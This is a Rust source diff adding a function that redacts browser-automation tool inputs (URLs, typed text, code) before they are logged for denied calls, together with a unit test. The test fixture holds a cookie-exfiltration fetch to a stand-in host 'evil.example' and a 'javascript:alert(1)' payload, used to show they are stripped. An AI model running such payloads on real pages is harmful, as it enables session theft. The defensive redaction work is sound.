@@ -299,6 +299,80 @@ fn is_label_key(key: &str) -> bool {
     LABEL_KEYS.iter().any(|k| k.as_bytes() == &folded[..n])
 }
 
+/// A call's input as a journal may keep it, for the event of a denial: the same shape, with
+///
+/// - every string the guard reads as a URL (under a URL-like key, or navigation-looking)
+///   replaced by `{"leopold_url": {"scheme", "host", "path"}}`, parsed as the journal parses it
+///   (`path` for http(s) only; `{}` when it does not parse): no userinfo, query or fragment,
+///   and no URL string, which events.jsonl never holds;
+/// - typed text (`text`, `value`) replaced by as many `*` as it had characters, except a click's
+///   `text`, which is its label;
+/// - the strings that name an element (label-like keys, `ref`, `target`, `key`) kept;
+/// - every other string emptied (code for `browser_evaluate`, a file name, …), and a key that
+///   is itself navigation-looking dropped.
+///
+/// The journal turns it back into a call (`leopold_journal::denial_from_line`) and builds the
+/// denied Codex call's action with the function that builds a denied Claude call's action from
+/// the real input, so both journal the same fields.
+pub fn reduced_call(tool: &str, input: &Value) -> Value {
+    reduce(input, None, is_click_like(tool))
+}
+
+/// The key [`reduced_call`] puts a reduced URL under.
+pub const REDUCED_URL_KEY: &str = "leopold_url";
+
+fn reduce(v: &Value, key: Option<&str>, click: bool) -> Value {
+    match v {
+        Value::String(s) => {
+            let url_keyed = key.is_some_and(|k| !matches!(url_key(k), UrlKey::No));
+            if url_keyed || looks_like_navigation(s) {
+                return reduce_url(s);
+            }
+            let Some(k) = key else {
+                return Value::String(String::new());
+            };
+            let typed =
+                k.eq_ignore_ascii_case("value") || (k.eq_ignore_ascii_case("text") && !click);
+            if typed {
+                Value::String("*".repeat(s.chars().count()))
+            } else if is_label_key(k)
+                || ["ref", "target", "key"]
+                    .iter()
+                    .any(|w| k.eq_ignore_ascii_case(w))
+            {
+                Value::String(s.clone())
+            } else {
+                Value::String(String::new())
+            }
+        }
+        Value::Array(items) => Value::Array(items.iter().map(|i| reduce(i, key, click)).collect()),
+        Value::Object(map) => Value::Object(
+            map.iter()
+                .filter(|(k, _)| !looks_like_navigation(k))
+                .map(|(k, v)| (k.clone(), reduce(v, Some(k), click)))
+                .collect(),
+        ),
+        Value::Null | Value::Bool(_) | Value::Number(_) => v.clone(),
+    }
+}
+
+/// `{"leopold_url": {"scheme", "host", "path"}}` of a URL string.
+fn reduce_url(raw: &str) -> Value {
+    let mut parts = serde_json::Map::new();
+    if let Ok(u) = url::Url::parse(raw.trim()) {
+        parts.insert("scheme".into(), Value::String(u.scheme().to_owned()));
+        if let Some(h) = u.host() {
+            parts.insert("host".into(), Value::String(h.to_string()));
+        }
+        if matches!(u.scheme(), "http" | "https") {
+            parts.insert("path".into(), Value::String(u.path().to_owned()));
+        }
+    }
+    let mut m = serde_json::Map::new();
+    m.insert(REDUCED_URL_KEY.into(), Value::Object(parts));
+    Value::Object(m)
+}
+
 /// The tool's own name: for an MCP tool, `mcp__<server>__<tool>` on both harnesses, the part
 /// after the server; any other tool (`WebFetch`), the whole name.
 ///
@@ -401,6 +475,46 @@ pub fn looks_like_navigation(s: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_reduced_call_keeps_hosts_paths_labels_and_lengths_and_nothing_else() {
+        let input = serde_json::json!({
+            "url": "https://user:pw@staging.example.com/cart?token=s3cret#f",
+            "batch": [{"url": "https://evil.example/collect?x=1"}, {"url": "javascript:alert(1)"}],
+            "links": ["www.no-scheme.example/x"],
+            "element": "the blue button",
+            "target": "e5",
+            "text": "4242 4242 4242 4242",
+            "fields": [{"name": "Card", "value": "4242"}],
+            "function": "() => fetch('https://evil.example/?c=' + document.cookie)",
+            "submit": true
+        });
+        let r = reduced_call("mcp__browser__browser_type", &input);
+        assert_eq!(
+            r,
+            serde_json::json!({
+                "url": {"leopold_url": {"scheme": "https", "host": "staging.example.com", "path": "/cart"}},
+                "batch": [
+                    {"url": {"leopold_url": {"scheme": "https", "host": "evil.example", "path": "/collect"}}},
+                    {"url": {"leopold_url": {"scheme": "javascript"}}}
+                ],
+                "links": [{"leopold_url": {}}],
+                "element": "the blue button",
+                "target": "e5",
+                "text": "*******************",
+                "fields": [{"name": "Card", "value": "****"}],
+                "function": "",
+                "submit": true
+            })
+        );
+        let line = r.to_string();
+        for secret in ["pw@", "s3cret", "4242", "cookie", "x=1", "://"] {
+            assert!(!line.contains(secret), "{secret} in {line}");
+        }
+        // A click's `text` is its label, kept.
+        let click = reduced_call("mcp__s__click", &serde_json::json!({"text": "Place order"}));
+        assert_eq!(click, serde_json::json!({"text": "Place order"}));
+    }
 
     #[test]
     fn the_tool_is_everything_after_the_server() {
